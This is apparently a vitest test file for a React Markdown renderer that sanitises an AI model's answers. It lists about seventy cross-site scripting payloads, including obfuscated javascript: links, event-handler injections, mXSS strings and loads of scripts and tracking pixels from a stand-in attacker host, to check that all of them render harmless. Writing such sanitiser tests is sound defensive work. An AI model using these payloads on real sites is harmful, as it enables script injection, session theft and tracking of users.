/** A model's text counts as hostile: whatever it is, only these elements, attributes and addresses come out. */
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { Markdown } from './markdown.tsx'

const allowed: Record<string, string[]> = {
  div: ['class', 'role', 'aria-label', 'tabindex', 'dir'],
  p: ['class', 'dir'],
  h3: ['class', 'dir'],
  h4: ['class', 'dir'],
  h5: ['class', 'dir'],
  h6: ['class', 'dir'],
  ul: ['class', 'dir'],
  ol: ['class', 'start', 'dir'],
  li: ['class'],
  span: ['class', 'role', 'aria-label', 'aria-live'],
  strong: [],
  em: [],
  del: [],
  code: ['class'],
  br: [],
  hr: [],
  blockquote: ['dir'],
  a: ['class', 'href', 'title', 'target', 'rel'],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['class', 'scope'],
  td: ['class'],
  figure: ['class'],
  figcaption: [],
  pre: ['role', 'aria-label', 'tabindex'],
  button: ['type', 'class'],
}

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src="//evil.example/x.js"></ScRiPt>\n\nafter',
  '<img src=x onerror=alert(1)>',
  'inline <img src="x" onerror="alert(1)"> image',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=a><button>go</button></form>',
  '<a href="javascript:alert(1)">a</a>',
  '<div style="position:fixed;inset:0">cover</div>',
  '<details open ontoggle=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<br onclick=alert(1)>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a]( javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](<java\tscript:alert(1)>)',
  '[a](java&Tab;script:alert(1))',
  '[a](java&NewLine;script:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;&#x61;vascript&colon;alert(1))',
  '[a](&#0000106&#0000097vascript:alert(1))',
  '[a](javascript&#58;alert(1))',
  '[a](\\javascript:alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](vbscript:msgbox(1))',
  '[a](data:text/html,<script>alert(1)</script>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](file:///etc/passwd)',
  '[a](blob:https://x/y)',
  '[a](//evil.example)',
  '[a](http:)',
  '[a][b]\n\n[b]: javascript:alert(1)',
  '[a][b]\n\n[b]: <java\nscript:alert(1)>',
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<data:text/html,x>',
  '[<img src=x onerror=alert(1)>](http://x.example)',
  '[[[[a](javascript:alert(1))](http://x.example)](javascript:alert(1))',
  '[a](http://x.example "title" onmouseover="alert(1)")',
  '[a](http://x.example"onmouseover="alert(1))',
  '[a](http://x.example/&quot;onmouseover=&quot;alert(1))',
  '![a](https://evil.example/pixel.gif?who=you)',
  '![a](http://evil.example/x "t")',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)',
  '![a](data:image/svg+xml,<svg onload=alert(1)>)',
  '![a](data:text/html;base64,PGI+)',
  '![a](data:image/png;base64,iVBORw0KGgo=)',
  '![<script>alert(1)</script>](https://evil.example/x.png)',
  '[![a](https://evil.example/x.png)](javascript:alert(1))',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '`</code><script>alert(1)</script>`',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [a](javascript:alert(1)) |',
  '- [x] <script>alert(1)</script>\n- [ ] ![a](https://evil.example/x)',
  '> <iframe src=//evil.example>',
  '# <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '__proto__ [__proto__]\n\n[__proto__]: http://x.example\n[constructor]: http://y.example',
  'https://x.example/"><script>alert(1)</script>',
  'www.x.example/<script>alert(1)</script>',
  'a@b.example"><script>alert(1)</script>',
]

describe('a hostile answer comes out harmless', () => {
  test.each(hostile)('%s', (text) => {
    for (const isOpen of [true, false]) {
      const html = renderToStaticMarkup(<Markdown text={text} isOpen={isOpen} />)
      expect(foreignParts(html)).toEqual([])
    }
  })

  test('the check itself finds forbidden elements, attributes and addresses', () => {
    expect(foreignParts('<script>')).toEqual(['<script>'])
    expect(foreignParts('<p onclick="x">')).toEqual(['p onclick'])
    expect(foreignParts('<a href="javascript:x">')).toEqual(['a href="javascript:x"'])
    expect(foreignParts('<img src="https://x.example/y">')).toEqual(['<img>'])
  })
})

test('raw HTML except a line break is shown as it was written', () => {
  expect(html('<b>bold</b> and<br>break')).toBe('<p>&lt;b&gt;bold&lt;/b&gt; and<br/>break</p>')
  expect(html('<div>\n**x**\n</div>')).toBe('<p>&lt;div&gt;\n<strong>x</strong>\n&lt;/div&gt;</p>')
})

test('an allowed link tells its target nothing of this page', () => {
  const link =
    '<a href="https://x.example/a?b=1&amp;c" title="https://x.example/a?b=1&amp;c" target="_blank" rel="noopener noreferrer nofollow">y</a>'
  expect(html('[y](https://x.example/a?b=1&amp;c)')).toBe(`<p>${link}</p>`)
  expect(html('[y](javascript:x)')).toBe('<p>y</p>')
  expect(html('[y](#part)')).toBe('<p>y</p>')
})

test('a remote picture is a link that names its host, one inside the answer a button', () => {
  expect(html('![chart](https://x.example/a.png)')).toContain(
    'Picture: chart <span class="dim">(x.example, not loaded)',
  )
  expect(html('![chart](data:image/png;base64,iVBORw0KGgo=)')).toContain(
    '<button type="button" class="md-picture">',
  )
  expect(html('![chart](/a.png)')).toBe('<p><span class="md-picture">Picture: chart</span></p>')
})

test.each([
  ['$$\na\n- b\n+ c\n= d\n$$', '<p><code class="md-tex">$$\na\n- b\n+ c\n= d\n$$</code></p>'],
  ['\\[\na\n===\n# b\n\\]', '<p><code class="md-tex">\\[\na\n===\n# b\n\\]</code></p>'],
  ['so\n$$ a\n- b $$.\nEnd', '<p>so</p><p><code class="md-tex">$$ a\n- b $$</code>.</p><p>End</p>'],
  ['so $$\na\n$$', '<p>so <code class="md-tex">$$\na\n$$</code></p>'],
  ['a$$\nb\n$$', '<p>a<code class="md-tex">$$\nb\n$$</code></p>'],
  ['$$a | b\n-|-\nc$$', '<p><code class="md-tex">$$a | b\n-|-\nc$$</code></p>'],
  [
    '- so\n  $$\n  a\n  - b\n  $$',
    '<ul><li><p>so</p><p><code class="md-tex">$$\na\n- b\n$$</code></p></li></ul>',
  ],
  ['$$\na\n\n- b\n$$', '<p>$$\na</p><ul><li><p>b\n$$</p></li></ul>'],
])('TeX of several lines stays TeX where a line looks like another block: %s', (text, expected) => {
  expect(html(text)).toBe(expected)
})

describe('headings of an answer', () => {
  test('stand below those of the page, skip no level of its outline, and look as large as they are marked', () => {
    expect(html('### a\n\n##### b\n\n### c\n\n# d\n\n###### e')).toBe(
      '<h3 class="md-h3">a</h3><h4 class="md-h5">b</h4><h3 class="md-h3">c</h3>' +
        '<h3 class="md-h1">d</h3><h4 class="md-h6">e</h4>',
    )
    expect(html('# a\n## b\n### c\n#### d\n##### e')).toMatch(/<h6 class="md-h4">d<.*<h6 class="md-h5">e</)
  })

  test('are paragraphs for the outline in a quote or an item', () => {
    expect(html('# a\n\n> ## b\n\n- ### c\n\n## d')).toBe(
      '<h3 class="md-h1">a</h3><blockquote><p class="md-h2">b</p></blockquote>' +
        '<ul><li><p class="md-h3">c</p></li></ul><h4 class="md-h2">d</h4>',
    )
  })
})

test('tasks say whether they are done', () => {
  const list = html('- [x] a\n- [ ] b')
  expect(list).toContain('aria-label="Done:"')
  expect(list).toContain('aria-label="To do:"')
  expect(html('- [x] a\n\n- [ ] b')).toBe(list.replace('<ul>', '<ul class="md-loose">'))
})

test('items with room between them are paragraphs, and whole', () => {
  expect(html('- a\n\n- b')).toBe('<ul class="md-loose"><li><p>a</p></li><li><p>b</p></li></ul>')
})

test('character references are read once, and not in code', () => {
  expect(html('&rarr; &#8364; &amp;lt; &unknown; `&lt;`')).toBe(
    '<p>→ € &amp;lt; &amp;unknown; <code>&amp;lt;</code></p>',
  )
})

test('a column without a name has no header', () => {
  expect(html('| |a|\n|-|-|\n|b|c|')).toContain('<tr><td></td><th scope="col">a</th></tr>')
})

test('nesting ends at fifty levels, and the rest is text', () => {
  for (const deep of ['> '.repeat(5000), '- '.repeat(2500), '1) > '.repeat(2000), '[*a '.repeat(1000)]) {
    const out = html(`${deep}end`)
    expect(out).toContain('end')
    expect(out.split('<blockquote>').length + out.split('<li>').length).toBeLessThan(105)
  }
  const emphasis = html(`${'*a **b '.repeat(300)}c${'** *'.repeat(300)}`)
  expect(emphasis).toContain('c')
})

test('only outermost blocks have a direction: a list ignores the letters of a paragraph that has its own', () => {
  const text = 'one\n\n- two\n\n  - three\n\n> four\n\n|a|\n|-|\n|b|'
  const whole = renderToStaticMarkup(<Markdown text={text} isOpen={false} />)
  expect([...whole.matchAll(/<(\w+)[^>]* dir="auto"/g)].map(([, element]) => element)).toEqual([
    'p',
    'ul',
    'blockquote',
    'div',
  ])
})

/** The HTML without the box of its page, of which these short texts have one, and without the blocks' direction. */
function html(text: string): string {
  const whole = renderToStaticMarkup(<Markdown text={text} isOpen={false} />).replaceAll(' dir="auto"', '')
  return whole.slice('<div class="md"><div class="md-page">'.length, -'</div></div>'.length)
}

/** Elements, attributes and addresses outside the allowed set. React escapes text: every `<` left is a tag. */
function foreignParts(html: string): string[] {
  return [...html.matchAll(/<(\w+)((?:\s[^<>]*)?)>/g)].flatMap(([, element = '', attributes = '']) => {
    const names = allowed[element]
    if (!names) return [`<${element}>`]
    return [...attributes.matchAll(/([\w-]+)="([^"]*)"/g)].flatMap(([whole, name = '', value = '']) => {
      if (!names.includes(name)) return [`${element} ${name}`]
      return name === 'href' && !/^(?:https?:\/\/[^/]|mailto:)/.test(value) ? [`${element} ${whole}`] : []
    })
  })
}

test.each([
  ['a \\(a^2\\,b_1 * c_2\\) b', '<p>a <code class="md-tex">\\(a^2\\,b_1 * c_2\\)</code> b</p>'],
  ['\\[\na \\\\\nb\n\\]', '<p><code class="md-tex">\\[\na \\\\\nb\n\\]</code></p>'],
  ['so$$x\\!y$$', '<p>so<code class="md-tex">$$x\\!y$$</code></p>'],
  ['`\\(c\\)` and \\(d', '<p><code>\\(c\\)</code> and (d</p>'],
  ['$5 and $$6, \\*', '<p>$5 and $$6, *</p>'],
])('TeX keeps its backslashes: %s', (text, expected) => {
  expect(html(text)).toContain(expected)
})
